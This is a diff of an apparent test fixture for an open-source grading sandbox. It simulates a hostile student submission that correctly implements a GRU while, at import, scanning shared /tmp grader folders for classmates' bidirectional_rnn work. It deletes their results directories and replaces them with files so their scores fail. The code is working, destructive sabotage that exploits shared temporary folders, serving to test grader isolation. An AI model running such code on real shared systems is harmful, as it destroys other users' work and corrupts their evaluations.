@@ -1,6 +1,7 @@
-"""HOSTILE (siblings): while the other exercises of the same submission are graded, it looks for their work folders
-in the shared temporary folders and breaks the one of bidirectional_rnn: its results folder becomes a file, so
-that nothing it computes can be reported. Its own GRU is right: the damage shows only in the victim's score."""
+"""HOSTILE (siblings and classmates): while other exercises are graded, its own submission's and its classmates', it
+looks for their work folders in the shared temporary folders and breaks every bidirectional_rnn it finds: its
+results folder becomes a file, so that nothing it computes can be reported. Its own GRU is right: the damage shows
+only in the victims' scores."""
 
 import glob
 import os
@@ -10,24 +11,35 @@ import time
 import numpy as np
 
 TOKEN = "{{TOKEN}}"  # only folders whose bidirectional_rnn.py carries it are touched
+# Where the grader keeps work folders (it is open source): its temporary folders, with one folder per exercise,
+# and the private copies that sandbox users work in.
+PLACES = ("/tmp/seqlab-*/bidirectional_rnn.py", "/tmp/seqlab-*/*/bidirectional_rnn.py",
+          "/tmp/seqlab-child-*/*/*/bidirectional_rnn.py")
+
+
+def _victims():
+    for place in PLACES:
+        for path in glob.glob(place):
+            results = os.path.join(os.path.dirname(path), "results")
+            try:
+                with open(path) as handle:
+                    if TOKEN in handle.read() and os.path.isdir(results):
+                        yield results
+            except OSError:
+                pass
 
 
 def _sabotage(seconds=3.0):
     deadline = time.monotonic() + seconds
     while time.monotonic() < deadline:
-        for path in glob.glob("/tmp/*/bidirectional_rnn.py") + glob.glob("/tmp/*/*/bidirectional_rnn.py"):
+        for results in list(_victims()):
             try:
-                with open(path) as handle:
-                    if TOKEN not in handle.read():
-                        continue
-                results = os.path.join(os.path.dirname(path), "results")
-                if os.path.isdir(results) and not os.path.islink(results):
+                if not os.path.islink(results):
                     shutil.rmtree(results)
                     open(results, "w").close()
-                    return
             except OSError:
                 pass
-        time.sleep(0.02)
+        time.sleep(0.05)
 
 
 _sabotage()
